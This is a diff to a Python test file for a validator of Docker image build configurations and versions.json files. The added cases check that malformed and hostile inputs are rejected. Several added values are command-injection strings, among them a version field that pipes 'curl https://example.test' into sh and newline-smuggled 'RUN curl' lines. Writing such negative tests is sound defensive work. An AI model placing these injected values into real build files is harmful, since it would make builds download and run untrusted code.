@@ -115,6 +115,13 @@ FAULTS = [
         ["tag 'trixie'", "both"],
     ),
     ("commit: 4f07", "commit: 4g07", 0, ["commit id"]),
+    ("image: python", "image: python; curl", 0, ["is not the name of a repository"]),
+    ("image: python", 'image: "python\\nRUN curl"', 0, ["has a control character"]),
+    ("builder: buildkit", "builder: build kit", 0, ["is not a word"]),
+    ("git_repo: https", "git_repo: javascript", 0, ["is not a URL"]),
+    ("dockerfile_url: https", "dockerfile_url: (https", 0, ["is not a URL"]),
+    ("{commit}", "{commit:9}", 0, ["formats a placeholder"]),
+    ("{commit}", "{commit.__class__}", 0, ["unknown placeholder"]),
     ("{commit}", "{comit}", 0, ["{comit}", "commit?"]),
     ("      alpine3.24: bb", "      alpine3.42: bb", 0, ["alpine3.42", "alpine3.24"]),
 ]
@@ -143,6 +150,11 @@ def test_an_unknown_family_lists_near_ones() -> None:
         family_load.load_family("2025-01", CATALOG)
 
 
+def release(**changes: object) -> str:
+    """A versions.json of one release, with changes."""
+    return json.dumps({"3.14": {"version": "3.14.6", "variants": ["trixie"]} | changes})
+
+
 def test_a_versions_json_is_a_family(tmp_path: Path) -> None:
     published = family("2026-06")
     file = tmp_path / "versions.json"
@@ -160,6 +172,18 @@ def test_a_versions_json_is_a_family(tmp_path: Path) -> None:
         ('{"3.13": {"version": "3.14.6", "variants": ["trixie"]}}', ["3.14.6", "its key is 3.14"]),
         ('{"3.14": {"version": "3.14.6"}}', ["has no 'variants'"]),
         ('{"3.14": {"version": "3.14.6", "variants": ["trixie"], "x": 1}}', ["unknown key"]),
+        (
+            release(setuptools={"version": "70'; curl https://example.test | sh; : '"}),
+            ["70'; curl", "is not a version of a Python package (PEP 440)"],
+        ),
+        (release(setuptools={"version": "70\nRUN curl"}), ["has a control character"]),
+        (release(setuptools={"version": "70 --index-url=x"}), ["is not a version"]),
+        (release(variants=["trixie; curl"]), ["'trixie; curl' is not a variant"]),
+        (release(variants=["trixie\nRUN curl"]), ["has a control character"]),
+        (release(version="3.14.6; x"), ["is not a CPython release"]),
+        (release(version="\u0663.14.6"), ["is not a CPython release"]),
+        (release(checksums={"source": {"sha256": "x"}}), ["is not a SHA-256"]),
+        ("{" * 1000, ["more than 32 levels deep"]),
         ("{}", ["names no release"]),
         ("[]", ["a list", "not a mapping"]),
     ],
